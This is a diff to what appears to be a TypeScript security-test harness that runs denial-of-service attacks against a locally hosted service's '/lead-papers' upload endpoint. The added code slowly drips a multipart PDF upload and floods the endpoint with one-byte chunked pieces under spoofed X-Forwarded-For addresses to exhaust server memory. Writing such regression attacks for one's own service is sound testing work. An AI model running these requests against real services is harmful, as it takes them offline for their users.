@@ -59,15 +59,20 @@ async function flood(width: number, isOver: () => boolean, once: (turn: number) 
 const json = (target: Target) => ({ apikey: target.publishableKey, "content-type": "application/json" });
 const madeUp = () => Math.random().toString(36).slice(2);
 
-/** A multipart post that has begun and goes on with a byte now and then. */
-function drip(target: Target, key: string, from: string): () => void {
+/** The beginning of a form that adds a paper to the enquiry with this key. */
+function paperHead(key: string): string {
   const field = (name: string, value: string) =>
     `--b\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`;
+  return `${field("key", key)}${field("papers-follow", "yes")}--b\r\nContent-Disposition: form-data; name="papers"; filename="a.pdf"\r\n\r\n%PDF-`;
+}
+
+/** A multipart post that has begun and goes on with a byte now and then. */
+function drip(target: Target, key: string, from: string): () => void {
   const socket = connect(Number(new URL(target.url).port), "127.0.0.1");
   socket.on("error", () => undefined);
   socket.write(
     `POST /lead-papers HTTP/1.1\r\nHost: a\r\nX-Forwarded-For: ${from}\r\nContent-Type: multipart/form-data; boundary=b\r\nContent-Length: 9000000\r\n\r\n` +
-      `${field("key", key)}${field("papers-follow", "yes")}--b\r\nContent-Disposition: form-data; name="papers"; filename="a.pdf"\r\n\r\n%PDF-`,
+      paperHead(key),
   );
   const clock = setInterval(() => socket.writable && socket.write("x"), 1_000);
   socket.on("close", () => clearInterval(clock));
@@ -193,6 +198,31 @@ export const attacks: readonly Attack[] = [
         });
         const text = await sent.then((answer) => answer.text()).catch(() => "");
         return text.includes('"kept":1') ? 200 : 0;
+      });
+    },
+  },
+  {
+    finding: "B1",
+    does: "papers in chunks of one byte",
+    run: async (target, isOver) => {
+      const crumbs = "1\r\nx\r\n".repeat(2_000);
+      await flood(2, isOver, async (turn) => {
+        const from = `198.51.100.${turn % 250}`;
+        const key = await leaveLead(target, from);
+        const head = paperHead(key);
+        const socket = connect(Number(new URL(target.url).port), "127.0.0.1");
+        socket.on("error", () => undefined).resume();
+        socket.write(
+          `POST /lead-papers HTTP/1.1\r\nHost: a\r\nX-Forwarded-For: ${from}\r\nContent-Type: multipart/form-data; boundary=b\r\n` +
+            `Transfer-Encoding: chunked\r\n\r\n${head.length.toString(16)}\r\n${head}\r\n`,
+        );
+        // A poor line: it is the memory that is attacked. Who sends this at full speed takes what any flood takes.
+        for (let sent = 0; sent < 1_000 && socket.writable && !isOver(); sent += 1) {
+          socket.write(crumbs);
+          await wait(100);
+        }
+        socket.destroy();
+        return 200;
       });
     },
   },
